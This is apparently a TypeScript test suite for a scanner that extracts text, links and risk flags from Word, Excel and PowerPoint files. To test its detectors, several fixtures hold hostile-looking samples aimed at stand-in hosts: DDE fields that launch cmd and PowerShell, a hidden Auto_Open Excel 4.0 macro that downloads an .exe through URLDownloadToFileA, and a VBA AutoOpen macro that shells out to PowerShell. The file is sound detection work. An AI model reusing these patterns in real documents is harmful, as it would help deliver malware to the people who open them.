import { describe, expect, test } from "bun:test";
import { deflateSync } from "node:zlib";
import { readOfficeXml, readOoxml } from "../../../../src/extract/office/ooxml.ts";
import {
  bytes,
  compound,
  docx,
  hex,
  LIMITS,
  ole10Native,
  paragraph,
  type Relation,
  rels,
  stream,
  TYPES,
  textOf,
  urlsOf,
  utf16,
  vbaProject,
  zip,
} from "./make.ts";

const read = (file: Uint8Array) => readOoxml(file, LIMITS);
const field = (code: string): string =>
  `<w:r><w:fldChar w:fldCharType="begin"/></w:r>${code}<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>shown</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`;
const instruction = (...pieces: readonly string[]): string =>
  pieces.map((piece) => `<w:r><w:instrText>${piece}</w:instrText></w:r>`).join("");
const withRels = (...relations: readonly Relation[]): Uint8Array =>
  docx(paragraph("x"), { "word/_rels/document.xml.rels": rels(...relations) });

describe("an ordinary document", () => {
  test("gives its text, put together from its runs, and nothing else", () => {
    const reading = read(
      docx(paragraph("see http://exam", "ple.com/a &amp; b") + paragraph("Password: infected")),
    );
    expect(textOf(reading, "office")).toBe("see http://example.com/a & b\nPassword: infected\n");
    expect({ ...reading, texts: [] }).toEqual({ inner: [], texts: [], urls: [], flags: [], facts: [] });
  });

  test("may have any prefix, charset and name of its parts", () => {
    const xml = `\ufeff<q:document xmlns:q="x"><q:p><q:t>http://a.example/</q:t></q:p></q:document>`;
    const file = zip({ "[Content_Types].xml": TYPES(), "evil/doc.xml": utf16(xml) });
    expect(textOf(read(file), "office")).toContain("http://a.example/");
  });

  test("is read without its directory, and with something before it", () => {
    const file = Buffer.from(docx(paragraph("http://a.example/")));
    const cut = file.subarray(0, file.indexOf("PK\x01\x02", 0, "latin1"));
    expect(textOf(read(cut), "office")).toContain("http://a.example/");
    expect(textOf(read(bytes("#!/bin/sh junk", file)), "office")).toContain("http://a.example/");
  });

  test("that is no zip is flagged", () => {
    expect(read(bytes("no zip")).flags).toEqual(["office_unreadable"]);
  });
});

describe("what a document refers to", () => {
  test.each<[string, string, readonly string[]]>([
    ["hyperlink", "http://a.example/", []],
    ["attachedTemplate", "https://a.example/t.dotm", ["remote_template"]],
    ["image", "http://a.example/i.png", ["external_image"]],
    ["oleObject", "http://a.example/o.doc", ["external_object"]],
    ["frame", "HTTP://a.example/f.htm", ["external_object"]],
    ["externalLinkPath", "http://a.example/b.xlsx", ["external_workbook"]],
  ])("a relationship of type %s", (type, target, facts) => {
    const reading = read(withRels([type, target]));
    expect(urlsOf(reading)).toEqual([target]);
    expect(reading.facts).toEqual([...facts]);
  });

  test("schemes inside schemes are given each", () => {
    const target = "mhtml:http://a.example/x.html!x-usc:http://b.example/x.html";
    const reading = read(withRels(["oleObject", target]));
    expect(urlsOf(reading)).toEqual([
      "http://a.example/x.html!x-usc:http://b.example/x.html",
      "http://a.example/x.html",
      "http://b.example/x.html",
    ]);
    expect(reading.facts).toEqual(["script_link", "external_object"]);
  });

  test.each(["\\\\a.example@80\\x\\t.dotm", "file://a.example/x/t.dotm", "file:///\\\\a.example\\x"])(
    "the template %s is on another machine",
    (target) => {
      expect(read(withRels(["attachedTemplate", target])).facts).toEqual(["unc_link", "remote_template"]);
    },
  );

  test("a template on the same machine is nothing", () => {
    expect(read(withRels(["attachedTemplate", "file:///C:\\Users\\x\\Normal.dotm"])).facts).toEqual([]);
  });

  test("links in drawings, and a program behind a button", () => {
    const slide = `<p:sld xmlns:p="http://p" xmlns:a="http://a"><a:p><a:r><a:rPr><a:hlinkMouseOver r:id="rId1" action="ppaction://program"/></a:rPr><a:t>x</a:t></a:r></a:p></p:sld>`;
    const vml = `<xml xmlns:v="urn:v"><v:shape href="http://v.example/"/><v:imagedata o:href='http://w.example/'/></xml>`;
    const reading = read(
      zip({
        "[Content_Types].xml": TYPES(),
        "ppt/slides/slide1.xml": slide,
        "ppt/drawings/vmlDrawing1.vml": vml,
      }),
    );
    expect(urlsOf(reading)).toEqual(["http://v.example/", "http://w.example/"]);
    expect(reading.facts).toEqual(["program_action", "hover_action"]);
  });
});

describe("the fields of a document", () => {
  test("are put together from their runs", () => {
    const body = `<w:p>${field(instruction(" HYPER", "LINK &quot;http://a.exa", "mple/&quot; "))}</w:p>`;
    expect(urlsOf(read(docx(body)))).toEqual(["http://a.example/"]);
  });

  test("may be given in one piece", () => {
    const body = `<w:fldSimple w:instr=' INCLUDEPICTURE "http://a.example/p.png" \\d '/>`;
    const reading = read(docx(body));
    expect(urlsOf(reading)).toEqual(["http://a.example/p.png"]);
    expect(reading.facts).toEqual(["field_include"]);
  });

  test("start programs by DDE, also where the letters are numbers", () => {
    const plain = `<w:p>${field(instruction("DDEAUTO c:\\\\cmd.exe ", "&quot;/k powershell http://a.example/&quot;"))}</w:p>`;
    const reading = read(docx(plain));
    expect(reading.facts).toEqual(["dde"]);
    expect(textOf(reading, "office")).toContain("http://a.example/");
    const quoted = field(
      instruction(" ") + field(instruction(" QUOTE 68 68 69 65 85 84 79 ")) + instruction(" cmd /c calc"),
    );
    expect(read(docx(`<w:p>${quoted}</w:p>`)).facts).toEqual(["dde"]);
  });

  test("are read without their end", () => {
    const open = `<w:fldChar w:fldCharType="begin"/>${instruction("HYPERLINK http://a.example/")}`;
    const reading = read(docx(open));
    expect(urlsOf(reading)).toEqual(["http://a.example/"]);
    expect(reading.flags).toEqual(["office_fields_odd"]);
  });
});

describe("a workbook", () => {
  const book = (
    parts: Readonly<Record<string, string | Uint8Array>>,
    types: Readonly<Record<string, string>> = {},
  ) =>
    read(
      zip({
        "[Content_Types].xml": TYPES({
          "xl/worksheets/sheet1.xml": "vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml",
          ...types,
        }),
        ...parts,
      }),
    );
  const rows = (count: number): string =>
    Array.from(
      { length: count },
      (_, row) => `<row r="${row}"><c><f>SUM(A1:A${row})</f><v>${row}</v></c></row>`,
    ).join("");
  const sheet = (cells: string): string =>
    `<worksheet xmlns="http://s.example/"><sheetData>${cells}</sheetData></worksheet>`;

  test("gives its strings and the formulas that lead somewhere", () => {
    const reading = book({
      "xl/sharedStrings.xml":
        "<sst><si><t>one</t></si><si><r><t>http://a.</t></r><r><t>example/</t></r></si></sst>",
      "xl/worksheets/sheet1.xml": sheet(
        `<row><c t="str"><v>in http://c.example/</v></c><c><v>7</v></c><c><f>HYPERLINK(&quot;http://b.&quot;&amp;&quot;example/&quot;)</f></c><c><f>SUM(A1:A2)</f></c></row>`,
      ),
    });
    expect(textOf(reading, "office")).toBe(
      'one\nhttp://a.example/\nin http://c.example/\nHYPERLINK("http://b.example/")\n',
    );
  });

  test.each([
    ["a large sheet", ""],
    ["a large sheet with a comment", "<!-- x -->"],
    ["a large sheet with a comment that hides", "<!-- </f> <v><![CDATA[ -->"],
  ])("finds what is at the end of %s", (_, comment) => {
    const end = `<row><c t="inlineStr"><is><t>Hello http://i.example/x</t></is></c><c><x:f t="a">WEBSERVICE("http://w.example/ü")</x:f></c><c><f>cmd|'/c calc'!A0</f></c></row>`;
    const reading = book({ "xl/worksheets/sheet1.xml": sheet(rows(30_000) + comment + end) });
    const text = textOf(reading, "office");
    expect(text).toContain("Hello http://i.example/x");
    expect(text).toContain('WEBSERVICE("http://w.example/ü")');
    expect(text).not.toContain("s.example");
    expect(reading.facts.toSorted()).toEqual(["dde", "web_formula"]);
  });

  test("asks programs by DDE and has connections to data", () => {
    const reading = book({
      "xl/externalLinks/externalLink1.xml": `<externalLink><ddeLink ddeService="cmd" ddeTopic="/c start http://a.example/"/></externalLink>`,
      "xl/connections.xml": `<connections><connection id="1"><webPr url="http://b.example/q"/></connection></connections>`,
    });
    expect(reading.facts).toEqual(["dde", "data_connection"]);
    expect(textOf(reading, "office")).toContain("cmd|/c start http://a.example/");
    expect(urlsOf(reading)).toEqual(["http://b.example/q"]);
  });

  test("has hidden sheets of Excel 4.0 macros that run by themselves", () => {
    const reading = book({
      "xl/workbook.xml": `<workbook><sheets><sheet name="M" state="veryHidden" r:id="rId0"/></sheets><definedNames><definedName name="_xlnm.Auto_Open">M!$A$1</definedName></definedNames></workbook>`,
      "xl/_rels/workbook.xml.rels": rels(["xlMacrosheet", "macrosheets/sheet1.xml", ""]),
      "xl/macrosheets/sheet1.xml": sheet(
        `<c><f>CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://a"&amp;".example/x.exe")</f></c>`,
      ),
    });
    expect(reading.facts.toSorted()).toEqual([
      "excel4_macros",
      "hidden_macro_sheet",
      "macros_autoexec",
      "macros_suspicious",
    ]);
    expect(textOf(reading, "macro")).toContain("http://a.example/x.exe");
  });

  test("may be in records instead of XML", () => {
    const reading = book({
      "xl/sharedStrings.bin": bytes("\x13\x0e\0", utf16("at http://a.example/x now"), 20),
    });
    expect(textOf(reading, "office")).toBe("http://a.example/x\n");
  });
});

describe("what is in a document", () => {
  const PNG = bytes(hex("89504e470d0a1a0a"), "image");

  test("macros", () => {
    const source = `Sub AutoOpen()\r\nShell "powershell " & "ht" & "tp://a.example/x"\r\nEnd Sub\r\n`;
    const reading = read(docx(paragraph("x"), { "word/anything.bin": compound(vbaProject(source)) }));
    expect(reading.facts).toEqual(["macros", "macros_autoexec", "macros_suspicious"]);
    expect(textOf(reading, "macro")).toContain('"powershell http://a.example/x"');
    expect(reading.inner).toEqual([]);
  });

  test("files in Packager's form, by their names", () => {
    const object = compound([stream("\x01Ole10Native", ole10Native("run.js", bytes("alert()")))]);
    const reading = read(docx(paragraph("x"), { "word/embeddings/oleObject1.bin": object }));
    expect(reading.inner).toEqual([{ name: "run.js", declared: null, bytes: bytes("alert()") }]);
    expect(reading.facts).toEqual(["embedded_object", "embedded_file"]);
  });

  test("embedded documents, chunks, and files hidden under harmless names", () => {
    const inner = docx(paragraph("inner"));
    const reading = read(
      docx(paragraph("x"), {
        "word/embeddings/Sheet.xlsx": inner,
        "word/chunk.xml": "<html>http://a.example/</html>",
        "word/_rels/document.xml.rels": rels(["aFChunk", "/word/chunk.xml", ""]),
        "word/media/sound.wav": bytes("MZ program"),
        "word/fonts/font1.odttf": bytes("a font"),
        "word/media/image1.emf": bytes("\x01\0\0\0"),
      }),
    );
    expect(reading.inner.map(({ name }) => name).toSorted()).toEqual([
      "Sheet.xlsx",
      "chunk.xml",
      "sound.wav",
    ]);
    expect(reading.facts).toEqual(["alt_chunk", "embedded_object"]);
  });

  test("the first images, with their types", () => {
    const images = Object.fromEntries(
      Array.from({ length: 25 }, (_, index) => [`word/media/image${index}.png`, bytes(PNG, String(index))]),
    );
    const reading = read(docx(paragraph("x"), images));
    expect(reading.inner).toHaveLength(20);
    expect(reading.inner[0]).toEqual({ name: "image0.png", declared: "image/png", bytes: bytes(PNG, "0") });
    expect(reading.flags).toEqual(["office_images_exceeded"]);
  });
});

describe("a document in one XML file", () => {
  test("gives links, text and the macros packed in it", () => {
    const mso = bytes("ActiveMime", 40, deflateSync(compound(vbaProject("Sub Document_Open()\r\nEnd Sub"))));
    const xml = `<?mso-application progid="Word.Document"?><w:wordDocument><w:docSuppData><w:binData w:name="editdata.mso">${mso.toString("base64")}</w:binData></w:docSuppData><w:p><w:hlink w:dest="http://a.example/"><w:r><w:t>click</w:t></w:r></w:hlink></w:p></w:wordDocument>`;
    const reading = readOfficeXml(bytes(xml), LIMITS);
    expect(urlsOf(reading)).toEqual(["http://a.example/"]);
    expect(reading.facts).toEqual(["macros", "macros_autoexec"]);
  });
});

describe("the bounds of a document", () => {
  test("a part that unpacks to more than the bound is cut", () => {
    const file = docx(paragraph("x"), { "word/a.xml": new Uint8Array(5_000_000) });
    const reading = readOoxml(file, { ...LIMITS, bytes: 100_000 });
    expect(reading.flags).toContain("office_part_bytes_exceeded");
  });

  test("a broken part gives what comes before it breaks", () => {
    const words = Array.from({ length: 20_000 }, (_, index) =>
      paragraph(`http://${(index * 7919) % 100_003}.example/`),
    );
    const file = Buffer.from(docx(words.join("")));
    file.fill(0xff, file.length - 9000, file.length - 8000);
    const reading = read(file);
    expect(textOf(reading, "office")).toContain("http://7919.example/");
    expect(reading.flags).toEqual(["office_part_unreadable"]);
  });
});
